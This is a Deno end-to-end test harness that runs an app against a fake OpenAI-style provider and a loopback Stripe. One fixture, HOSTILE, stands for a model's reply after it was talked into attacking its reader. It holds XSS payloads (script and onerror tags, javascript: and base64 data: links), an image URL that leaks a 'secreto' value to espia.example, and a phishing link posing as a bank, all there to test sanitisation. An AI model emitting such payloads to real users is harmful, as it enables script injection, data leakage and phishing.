/**
 * What the end-to-end stories visit: `npm start`, as anybody would start it, whose only model provider is a server on the
 * loopback interface that speaks OpenAI's wire format. What it answers is told by the question:
 *
 *     cuenta hasta 80      eighty numbers, one every 50 ms
 *     se corta             the connection dies after a few words
 *     tabla                Markdown with a table, a list and code
 *     texto hostil         what a model says that was talked into attacking its reader
 *     anything else        two sentences that quote the question
 *
 * Asked for JSON of a schema, it has found nothing: what is learned in the stories, the rules have found.
 *
 * Cards are paid with on the page of a loopback Stripe (tests/gateways).
 *
 * The stories ask it on a port of its own what it was asked, and switch it off and on (provider.ts).
 */
import { LoopbackStripe } from "../gateways/stripe_wire.ts";
import { startProvider } from "../providers/mod.ts";
import type { Behaviour } from "../providers/mod.ts";
import { API_URL, PORT_BASE, PROVIDER_PORT, STATE_DIRECTORY, WEB_PORT } from "./addresses.ts";

const TABLE = `Así quedó tu semana:

| Día | Ventas | Ticket |
|---|---:|---:|
| Lunes | $3,200 | $85 |
| Viernes | $9,850 | $112 |

- El viernes vende **tres veces** más.
- Prueba un combo los lunes.

\`\`\`sql
select dia, sum(total) from ventas group by dia;
\`\`\`
`;

const HOSTILE = `<script>document.title = "robado"</script>

<img src="https://espia.example/pixel.gif" onerror="document.title = 'robado'">

![factura](https://espia.example/espia.png?nota=secreto)

<iframe src="https://espia.example/marco"></iframe>

<style>body { display: none }</style>

[Abre tu regalo](javascript:document.title='robado')

[Otro regalo](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)

[Entra a www.mibanco.com](https://ladron.example/entrar)

[La guía completa](https://guia.example/precios)

\`<b onclick=alert(1)>código</b>\` y fin.
`;

interface Message {
  role: string;
  content: unknown;
}

/** The last thing that a person said in a request of the chat completions API. */
function question(messages: Message[]): string {
  const last = messages.findLast(({ role }) => role === "user")?.content;
  return typeof last === "string" ? last : JSON.stringify(last ?? "");
}

/** Words of questions that are refused for now. */
const refused = new Set<string>();

interface Body {
  messages?: Message[];
  response_format?: { type: string };
}

/** Whether the worker asks, not a person. */
function isWork({ messages = [], response_format }: Body): boolean {
  return response_format?.type === "json_schema" || /^<conversacion>/.test(question(messages));
}

function answer({ messages = [], response_format }: Body): Behaviour {
  const asked = question(messages);
  if ([...refused].some((words) => asked.includes(words))) return { status: 503 };
  if (response_format?.type === "json_schema") return { text: '{"facts": []}' };
  // The worker asks for a conversation's title.
  if (asked.startsWith("<conversacion>")) return { text: "Ventas de la semana" };
  const count = /cuenta hasta (\d+)/i.exec(asked);
  if (count) {
    const numbers = Array.from({ length: Number(count[1]) }, (_, i) => `${i + 1}`);
    return { deltas: numbers.map((n) => `${n} `), gapMs: 50 };
  }
  if (/se corta/i.test(asked)) {
    return { text: "Te cuento con calma cómo van las ventas de esta semana.", dieAfterDeltas: 4 };
  }
  if (/texto hostil/i.test(asked)) return { text: HOSTILE, gapMs: 1 };
  if (/tabla/i.test(asked)) return { text: TABLE, gapMs: 2 };
  return { text: `Entendido. Me preguntas: «${asked.trim().slice(-120)}». Empecemos por lo que más vende.`, gapMs: 5 };
}

const stripe = new LoopbackStripe(`${API_URL}/functions/v1/webhooks/stripe`);
const openai = await startProvider({ kind: "openai", behaviours: ({ body }) => answer((body ?? {}) as Body) });

/** The requests for an answer about something. */
function requestsAbout(words: string): Message[][] {
  return openai.requests
    .map(({ body }) => (body ?? {}) as Body)
    .filter((body) => !isWork(body))
    .map(({ messages }) => messages ?? [])
    .filter((messages) => question(messages).includes(words));
}

const door = Deno.serve({ hostname: "127.0.0.1", port: PROVIDER_PORT, onListen: () => {} }, (request) => {
  const { pathname, searchParams } = new URL(request.url);
  const words = searchParams.get("about") ?? "";
  if (pathname === "/requests") return Response.json(requestsAbout(words));
  if (pathname === "/down") {
    if (request.method === "PUT") refused.add(words);
    else refused.delete(words);
    return Response.json([...refused]);
  }
  return new Response(null, { status: 404 });
});

const environment = Object.fromEntries(
  Object.entries(Deno.env.toObject()).filter(([name]) =>
    !/^(OPENAI|ANTHROPIC|HUGGINGFACE|COMPATIBLE|STRIPE|MERCADOPAGO)_/.test(name)
  ),
);
const child = new Deno.Command("npm", {
  args: ["start"],
  clearEnv: true,
  env: {
    ...environment,
    OPENAI_API_KEY: "sk-test-e2e",
    OPENAI_BASE_URL: `${openai.url}/v1`,
    STRIPE_SECRET_KEY: stripe.secretKey,
    STRIPE_WEBHOOK_SECRET: stripe.webhookSecret,
    STRIPE_BASE_URL: stripe.url,
    SINTRA_PORT_BASE: String(PORT_BASE),
    SINTRA_WEB_PORT: String(WEB_PORT),
    SINTRA_STATE_DIR: STATE_DIRECTORY,
  },
}).spawn();

for (const signal of ["SIGINT", "SIGTERM", "SIGHUP"] as const) {
  Deno.addSignalListener(signal, () => child.kill(signal));
}
const { code } = await child.status;
await door.shutdown();
await openai.close();
await stripe.close();
Deno.exit(code);
